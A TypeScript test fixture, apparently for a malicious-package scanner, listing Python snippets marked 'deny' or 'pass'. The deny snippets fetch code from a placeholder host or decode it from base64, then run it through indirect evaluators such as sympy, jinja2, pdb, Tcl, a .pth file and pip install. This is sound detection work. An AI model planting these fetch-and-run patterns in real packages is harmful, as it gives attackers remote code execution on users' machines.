/** Libraries that evaluate what they are given, and for honest reasons: what is fetched or hidden is none of them. All inert. */
import type { Shape } from './malicious.js';

const fetched =
  'import urllib.request\nc = urllib.request.urlopen("https://c.demo.invalid/x").read().decode()\n';
const hidden = `import base64\nc = base64.b64decode("${Buffer.from('print(1)').toString('base64')}").decode()\n`;

function one(tier: Shape['tier'], name: string, code: string): Shape {
  return { name, tier, files: { 'demo/__init__.py': `${code}\n` } };
}

const ways: readonly (readonly [string, string])[] = [
  ['symbols', 'import sympy\nsympy.sympify(c)'],
  ['an expression', 'from sympy.parsing.sympy_parser import parse_expr\nparse_expr(c)'],
  ['a question of a table', 'import pandas as pd\npd.DataFrame().query(c, engine="python")'],
  ['a template', 'import jinja2\njinja2.Template(c).render()'],
  ['another template', 'from mako.template import Template\nTemplate(c).render()'],
  ['a template of a server', 'from tornado.template import Template\nTemplate(c).generate()'],
  ['a profiler', 'import cProfile\ncProfile.runctx(c, {}, {})'],
  ['a tracer', 'import trace\ntrace.Trace().runctx(c)'],
  ['a debugger', 'import pdb\npdb.Pdb().run(c)'],
  ['an example', 'import doctest\ndoctest.run_docstring_examples(c, {})'],
  ['a notebook', 'from IPython import get_ipython\nget_ipython().run_cell_magic("bash", "", c)'],
  ['a script of Tcl', 'import tkinter\ntkinter.Tcl().eval(c)'],
  ['a script of R', 'import rpy2.robjects as ro\nro.r(c)'],
  ['settings of a log', 'import json, logging.config\nlogging.config.dictConfig(json.loads(c))'],
  ['a loader', 'import importlib.abc\nimportlib.abc.InspectLoader.source_to_code(c)'],
];

export const evaluators: readonly Shape[] = [
  ...ways.map(([name, code]) => one('deny', `${name} that is fetched`, fetched + code)),
  ...ways.map(([name, code]) => one('deny', `${name} that is hidden`, hidden + code)),
  one('pass', 'symbols that are given', 'import sympy\ndef read(text):\n    return sympy.sympify(text)'),
  one('pass', 'a template of the source', 'import jinja2\nPAGE = jinja2.Template("<p>{{ name }}</p>")'),
  one(
    'pass',
    'a template that is decoded when it is asked for',
    'import base64, jinja2\nTEXT = "PHA+"\ndef page():\n    return jinja2.Template(base64.b64decode(TEXT).decode())',
  ),
  one(
    'pass',
    'a table that is asked',
    'import pandas as pd\ndef few(frame):\n    return frame.query("a > 1")',
  ),
  one(
    'deny',
    'a folder of start lines that are fetched',
    'import site, urllib.request\nopen("/tmp/z/a.pth", "wb").write(urllib.request.urlopen("https://c.demo.invalid/x").read())\nsite.addsitedir("/tmp/z")',
  ),
  one(
    'deny',
    'a wheel that is fetched, and installed',
    'import pip, urllib.request\nopen("/tmp/x.whl", "wb").write(urllib.request.urlopen("https://c.demo.invalid/x").read())\npip.main(["install", "/tmp/x.whl"])',
  ),
];
